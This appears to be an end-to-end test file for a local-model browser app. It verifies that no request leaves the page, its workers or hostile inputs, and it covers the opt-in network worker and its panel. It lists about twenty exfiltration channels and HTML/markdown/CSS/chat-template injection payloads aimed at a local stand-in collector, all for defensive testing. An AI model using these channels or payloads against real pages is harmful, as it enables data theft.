// Knows: that nothing gets out: from the page, from each of its workers and from hostile content, requests to another server on this machine
// are attempted, and that server counts none. And the way out that a person switches on: the network worker and its panel.
// Not attempted: navigating the page elsewhere, which no policy of a page forbids; hostile content has no script that could.
import { mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Browser, Page, Worker as PageWorker } from 'playwright-core'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { ModelServer } from '../stand-ins/model-server.ts'
import { makeModelFolder } from '../workers/teachers/small-folder.ts'
import { findBarriers, overflowOf } from './axe.ts'
import { DIST, openBrowser, openPage, waitUntilIsolated, type Watched } from './harness.ts'
import { Person } from './person.ts'
import { serveFolder, type Site } from './serve.ts'

let browser: Browser
let collector: Server
/** Where everything tries to send a byte to, and the requests that arrived there. */
let elsewhere = ''
const collected: string[] = []
beforeAll(async () => {
  browser = await openBrowser()
  collector = createServer((request, response) => {
    collected.push(`${request.method} ${request.url}`)
    response.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/javascript' }).end('')
  })
  // A socket that is refused before HTTP counts too.
  collector.on('upgrade', (request, socket) => {
    collected.push(`upgrade ${request.url}`)
    socket.destroy()
  })
  await new Promise<void>((resolve) => collector.listen(0, '127.0.0.1', resolve))
  elsewhere = `http://127.0.0.1:${(collector.address() as AddressInfo).port}` // a listening TCP server has one
})
afterAll(async () => {
  await browser.close()
  collector.closeAllConnections()
  collector.close()
})

let site: Site
let watched: Watched
beforeEach(() => void (collected.length = 0))
afterEach(async () => {
  await watched.context.close()
  await site.close()
})

async function open(headers: boolean): Promise<{ page: Page; person: Person }> {
  site = await serveFolder(DIST, { headers })
  watched = await openPage(browser, site.url)
  await waitUntilIsolated(watched.page)
  await watched.page.getByRole('button', { name: 'New project', exact: true }).first().waitFor()
  // The page without headers is reloaded by its service worker: workers start after that.
  await expect
    .poll(() => watched.page.evaluate(() => navigator.serviceWorker.controller !== null).catch(() => false), {
      timeout: 30_000,
    })
    .toBe(true)
  return { page: watched.page, person: new Person(watched.page) }
}

/** Every way by which a realm sends bytes without leaving the page; those it lacks are skipped. Returns what did not fail. */
async function tryEverything(to: string): Promise<string[]> {
  const succeeded: string[] = []
  const attempt = async (name: string, work: () => unknown): Promise<void> => {
    try {
      if ((await work()) !== false) succeeded.push(name)
    } catch {
      // refused, as it must be
    }
  }
  await attempt('fetch', () => fetch(`${to}/fetch?byte`))
  await attempt('fetch without CORS', () =>
    fetch(`${to}/no-cors`, { mode: 'no-cors', method: 'POST', body: 'byte' }),
  )
  await attempt('fetch that outlives the page', () =>
    fetch(`${to}/keepalive`, { keepalive: true, mode: 'no-cors' }),
  )
  await attempt('import', () => import(/* @vite-ignore */ `${to}/import.js`))
  await attempt('cache', async () => (await caches.open('probe')).add(`${to}/cache`))
  if ('XMLHttpRequest' in globalThis)
    await attempt(
      'XMLHttpRequest',
      () =>
        new Promise((resolve, reject) => {
          const request = new XMLHttpRequest()
          request.open('POST', `${to}/xhr`)
          request.addEventListener('load', resolve)
          request.addEventListener('error', reject)
          request.send('byte')
        }),
    )
  const opens = (source: EventTarget): Promise<unknown> =>
    new Promise((resolve, reject) => {
      source.addEventListener('open', resolve)
      source.addEventListener('error', reject)
      setTimeout(reject, 3000)
    })
  if ('WebSocket' in globalThis)
    await attempt('WebSocket', () => opens(new WebSocket(`${to.replace('http', 'ws')}/socket`)))
  if ('EventSource' in globalThis) await attempt('EventSource', () => opens(new EventSource(`${to}/events`)))
  const code = `fetch(${JSON.stringify(`${to}/nested`)}).then(() => postMessage(1), () => postMessage(0))`
  await attempt(
    'a nested worker',
    () =>
      new Promise((resolve, reject) => {
        const nested = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })))
        nested.addEventListener('message', ({ data }) =>
          data === 1 ? resolve(1) : reject(new Error('refused')),
        )
        nested.addEventListener('error', reject)
        setTimeout(reject, 3000)
      }),
  )
  if ('document' in globalThis) {
    await attempt('beacon', () => {
      navigator.sendBeacon(`${to}/beacon`, 'byte')
      return false // it reports only that it was queued
    })
    const load = (name: string, properties: Record<string, string>): Promise<unknown> =>
      new Promise((resolve, reject) => {
        const element = Object.assign(document.createElement(name), properties)
        element.addEventListener('load', resolve)
        element.addEventListener('error', reject)
        document.body.append(element)
        setTimeout(reject, 1000)
      })
    await attempt('img', () => load('img', { src: `${to}/img` }))
    await attempt('script', () => load('script', { src: `${to}/script.js` }))
    await attempt('style', () => load('link', { rel: 'stylesheet', href: `${to}/style.css` }))
    await attempt('prefetch', () => load('link', { rel: 'prefetch', href: `${to}/prefetch` }))
    await attempt('video', () => load('video', { src: `${to}/video` }))
    await attempt('object', () => load('object', { data: `${to}/object` }))
    await attempt('form', () => {
      const form = Object.assign(document.createElement('form'), { action: `${to}/form`, method: 'post' })
      document.body.append(form)
      form.submit()
      return false // the policy's refusal is no error
    })
    await attempt('frame', () => {
      document.body.append(Object.assign(document.createElement('iframe'), { src: `${to}/frame` }))
      return false
    })
  }
  await new Promise((resolve) => setTimeout(resolve, 500))
  return succeeded
}

const scriptOf = (pattern: RegExp): string => {
  const name = readdirSync(join(DIST, 'assets')).find((file) => pattern.test(file))
  if (name === undefined) throw new Error(`the build has no ${pattern}`)
  return `assets/${name}`
}
/** Every script that the page or a worker of it starts as a worker, the engine's threads included. */
const WORKERS = [
  /^teacher-[\w-]{8}\.js$/,
  /^student-[\w-]{8}\.js$/,
  /^corpus-[\w-]{8}\.js$/,
  /^web-llm-[\w-]{8}\.js$/,
  /^threads-[\w-]{8}\.js$/,
  /^ort-wasm-simd-threaded-[\w-]{8}\.mjs$/,
]

async function startWorker(page: Page, path: string): Promise<PageWorker> {
  const started = page.waitForEvent('worker', (worker) => worker.url().endsWith(path))
  await page.evaluate((address) => void new Worker(address, { type: 'module' }), path)
  return started
}

describe.each([
  ['a host that sends headers', true],
  ['a host that sends none, with the service worker’s headers', false],
] as const)('%s', (_name, headers) => {
  test('lets no byte out of the page or of any of its workers', async () => {
    const { page } = await open(headers)
    expect(await page.evaluate(tryEverything, elsewhere)).toEqual([])
    for (const pattern of WORKERS) {
      const worker = await startWorker(page, scriptOf(pattern))
      expect(await worker.evaluate(tryEverything, elsewhere), String(pattern)).toEqual([])
    }
    expect(collected).toEqual([])
  })

  test('lets the network worker out by its policy, but sends nothing for a page that switched nothing on', async () => {
    const { page } = await open(headers)
    const path = scriptOf(/^network-[\w-]{8}\.js$/)
    const refused = await page.evaluate(
      async ([address = '', to = '']) => {
        const worker = new Worker(address, { type: 'module' })
        const { port1, port2 } = new MessageChannel()
        worker.postMessage({ retort: 'request', id: 1, method: 'connect', request: { port: port1 } }, [port1])
        const reply = new Promise((resolve) => {
          port2.addEventListener('message', ({ data }) => resolve(data))
          port2.start()
        })
        const request = { url: `${to}/refused`, method: 'GET', headers: [], refusesRedirects: false }
        port2.postMessage({ retort: 'request', id: 1, method: 'open', request })
        return JSON.stringify(await reply)
      },
      [path, elsewhere],
    )
    expect(refused).toContain('no source that is switched on needs this address')
    expect(collected).toEqual([])
    // The positive case, without which the counts above would prove nothing.
    const worker = await startWorker(page, path)
    expect(await worker.evaluate(async (to) => (await fetch(`${to}/out`)).status, elsewhere)).toBe(200)
    expect(collected).toEqual(['GET /out'])
  })
})

describe('hostile content', () => {
  const hostile = (): string =>
    `<img src="${elsewhere}/img"><script src="${elsewhere}/x.js"></script><svg xmlns="http://www.w3.org/2000/svg"><image href="${elsewhere}/svg"/></svg> ![a](${elsewhere}/markdown) [b]: ${elsewhere}/link @import url(${elsewhere}/css) <link rel=prefetch href="${elsewhere}/prefetch">`

  test('as seeds, a recipe, a chat template and a server’s texts is shown, and sends nothing', async () => {
    const server = new ModelServer()
    server.list = { data: [{ id: 'hash-1', owned_by: hostile(), max_model_len: 8192 }] }
    await server.start()
    const disk = mkdtempSync(join(tmpdir(), 'hostile-'))
    try {
      const { page, person } = await open(true)
      await person.beginWith(`retort: 2
name: ${JSON.stringify(hostile().slice(0, 110))}
rngSeed: 5
steps:
  - complete: teacher
    n: 1
    system: ${JSON.stringify(hostile())}
    temperature: 1
    maxTokens: 24
`)
      await person.goTo('Seeds')
      await page.getByLabel('Seed file').setInputFiles({
        name: 'seeds.jsonl',
        mimeType: 'application/jsonl',
        buffer: Buffer.from(`${JSON.stringify({ prompt: hostile() })}\n`),
      })
      await page.getByText(`${elsewhere}/markdown`).first().waitFor()

      mkdirSync(join(disk, 'hostile'))
      for (const [path, bytes] of makeModelFolder()) writeFileSync(join(disk, 'hostile', path), bytes)
      writeFileSync(
        join(disk, 'hostile', 'tokenizer_config.json'),
        JSON.stringify({
          eos_token: '<|end|>',
          chat_template: `{% set leak = fetch('${elsewhere}/template') if fetch is defined %}{% for message in messages %}{{ message.content }}{% endfor %}${hostile()}`,
        }),
      )
      await person.goTo('Teacher')
      await page.getByLabel('Model folder').setInputFiles(join(disk, 'hostile'))
      await person.waitFor(/can be used\. It is not loaded yet/)
      await person.press('Load teacher')
      await person.waitFor(/is loaded on/)
      await page.locator('summary').filter({ hasText: 'A model server' }).click()
      await page.getByLabel('Server address').fill(server.url)
      await page.getByRole('button', { name: 'Look for models' }).click()
      await page.getByRole('button', { name: 'hash-1' }).click()
      await person.press('Use as teacher')
      await person.waitFor(/hash-1 is ready/)
      await page.waitForTimeout(1000)
      expect(collected).toEqual([])
    } finally {
      server.stop()
      rmSync(disk, { recursive: true })
    }
  })
})

describe('the panel', () => {
  test('reports that nothing left, then every request to a server that was switched on, and when that ends', async () => {
    const server = new ModelServer()
    server.list = { data: [{ id: 'hash-1', owned_by: 'a test', max_model_len: 8192 }] }
    await server.start()
    try {
      const { page, person } = await open(true)
      const networkWorkers = (): number =>
        page.workers().filter((worker) => worker.url().includes('/network-')).length
      const panel = page.getByRole('dialog', { name: 'Network' })
      const readPanel = async (): Promise<string> => {
        await page.getByRole('button', { name: /^Network:/ }).click()
        const text = await panel.innerText()
        await page.keyboard.press('Escape')
        return text
      }
      expect(await readPanel()).toContain('Nothing has left this machine since the page was opened.')
      await page.getByRole('button', { name: 'New project', exact: true }).first().click()
      await person.goTo('Teacher')
      await page.locator('summary').filter({ hasText: 'A model server' }).click()
      await page.getByLabel('Server address').fill(server.url)
      await page.getByRole('button', { name: 'Look for models' }).click()
      await page.getByRole('button', { name: 'hash-1' }).click()
      await person.waitFor(/hash-1 can be used\. It is not loaded yet\./)
      // Switched on for the two calls only.
      await expect.poll(networkWorkers).toBe(0)
      await person.press('Use as teacher')
      await person.waitFor(/hash-1 is ready/)
      expect(networkWorkers()).toBe(1)
      const { host } = new URL(server.url)
      const busy = await readPanel()
      expect(busy).toContain(`The network worker is on, for ${host} only.`)
      expect(busy).toMatch(
        new RegExp(`${host}[\\s\\S]*the model server that you chose: ${server.requests.length} requests`),
      )
      await page.getByRole('button', { name: /^Network:/ }).click()
      expect(await findBarriers(page)).toEqual([])
      for (const width of [390, 1280]) {
        await page.setViewportSize({ width, height: 900 })
        expect(await overflowOf(page), `${width} px`).toBe(0)
      }
      await page.keyboard.press('Escape')
      await person.press('Unload')
      await expect.poll(networkWorkers).toBe(0)
      expect(await readPanel()).toContain('The network worker is off')
      expect(collected).toEqual([])
    } finally {
      server.stop()
    }
  })
})
